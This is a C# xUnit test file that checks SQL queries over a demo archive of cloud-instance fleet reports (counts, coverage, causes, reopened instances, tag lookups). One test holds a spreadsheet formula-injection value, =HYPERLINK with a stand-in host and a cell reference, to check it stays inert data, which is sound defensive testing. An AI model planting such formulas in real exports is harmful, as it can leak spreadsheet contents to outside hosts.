using System.Globalization;
using System.Text;
using System.Text.Json;
using FleetDiff.Cli;
using FleetDiff.Core.Model.Reports;
using FleetDiff.Core.Model.Text;
using FleetDiff.Core.Pipeline.Archive;

namespace FleetDiff.Queries.Tests;

/// <summary>Tests the queries on the demo's archive, with the counts of its reports.</summary>
public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive>, IDisposable
{
    private readonly Engine _engine = new(demo.Folder);

    public void Dispose() => _engine.Dispose();

    [Fact]
    public void ReturnsEveryInstanceOfEveryRun() => Assert.Equal(
        [["2026-11-19", "70"], ["2026-11-20", "70"], ["2026-11-21", "70"], ["2026-11-22", "77"], ["2026-11-23", "81"]],
        _engine.Ask("SELECT \"date\", count(*) FROM instances GROUP BY \"date\" ORDER BY \"date\""));

    [Fact]
    public void CoverageOfEveryAccountMatchesTheReports()
    {
        var reported = new[] { "2026-11-19", "2026-11-20", "2026-11-21", "2026-11-22", "2026-11-23" }
            .SelectMany(run => Report(run).Accounts.Select(account => (Date: run, Account: account)))
            .OrderBy(row => row.Account.Account, StringComparer.Ordinal)
            .Select(row => $"{row.Account.Account} {row.Date} {row.Account.Instances} {row.Account.Managed} "
                + $"{row.Account.Dormant} {row.Account.Unmanaged} {row.Account.Disputed} {row.Account.Exempt}");

        var counted = _engine.AskFile("coverage-by-account.sql", "2026-11-01");

        Assert.Equal(reported, counted.Select(row => string.Join(' ', row.SkipLast(1))));
    }

    [Fact]
    public void ListsInstancesThatWereUnmanagedOnTheRunBefore()
    {
        var rows = _engine.AskFile("unmanaged-on-date.sql", "2026-11-23");

        Assert.Equal(Report("2026-11-23").Unmanaged.Select(row => row.Instance), rows.Select(row => row[2]));
        Assert.Equal(30, rows.Count);
    }

    [Fact]
    public void CountsTheCausesOfEachRun()
    {
        var reported = Report("2026-11-23").Unmanaged
            .GroupBy(row => (Code: KebabCase.Format(row.Cause!.Code), row.Cause.Resource))
            .Select(rows => $"{rows.Key.Code} {rows.Key.Resource} {rows.Count()} {rows.DistinctBy(row => row.Account).Count()}")
            .Order(StringComparer.Ordinal);

        var counted = _engine.AskFile("causes-over-time.sql", "2026-11-23");

        Assert.Equal(reported, counted.Select(row => string.Join(' ', row.Skip(1))).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void ListsReopenedInstances() => Assert.Equal(
        [["666677778888", "eu-central-1", "i-0d15316c7ac7ed2c0", "build-agent-05", "2", "2026-11-23"]],
        _engine.AskFile("reopened-most.sql", "2026-11-01"));

    [Fact]
    public void CountsTheDaysUntilResolution() => Assert.Equal(
        ["4", "1", "1"],
        _engine.Ask($"SELECT sum(resolved), round(sum(resolved * meanDays) / sum(resolved), 1), max(maxDays) "
            + $"FROM ({Engine.ReadFile("mean-days-to-resolve.sql")})", "2026-11-01").Single());

    [Fact]
    public void ShowsHostileNamesAsData() => Assert.Contains(
        _engine.AskFile("unmanaged-on-date.sql", "2026-11-23"),
        row => row[3] == "=HYPERLINK(\"https://example.com/\"&A1)");

    [Fact]
    public void FindsAnInstanceByATag() => Assert.Equal(
        ["5"],
        _engine.Ask("SELECT count(*) FROM instances WHERE \"date\" = ? AND tags['Team'] = '物流'",
            "2026-11-23").Single());

    private Report Report(string run) => JsonSerializer.Deserialize(
        File.ReadAllText(Path.Combine(demo.Folder, $"reports/date={run}/report.json")), ArchiveJson.Instance.Report)
        ?? throw new InvalidDataException(run.ToString(CultureInfo.InvariantCulture));
}

/// <summary>The archive of <c>fleetdiff demo</c>: five reports of the sample organization.</summary>
public sealed class DemoArchive : IAsyncLifetime
{
    public string Folder { get; } = Directory.CreateTempSubdirectory("fleetdiff-demo-").FullName;

    private static readonly Dictionary<string, string?> NoVariables = [];

    public async Task InitializeAsync()
    {
        using var output = new MemoryStream();
        var host = new Host { Out = new(output, null), Error = new(output, null), Environment = NoVariables };
        var exitCode = await FleetDiffCli.RunAsync(["demo", "--archive", Folder], host, CancellationToken.None);
        Assert.True(exitCode == 0, Encoding.UTF8.GetString(output.ToArray()));
    }

    public Task DisposeAsync()
    {
        Directory.Delete(Folder, recursive: true);
        return Task.CompletedTask;
    }
}
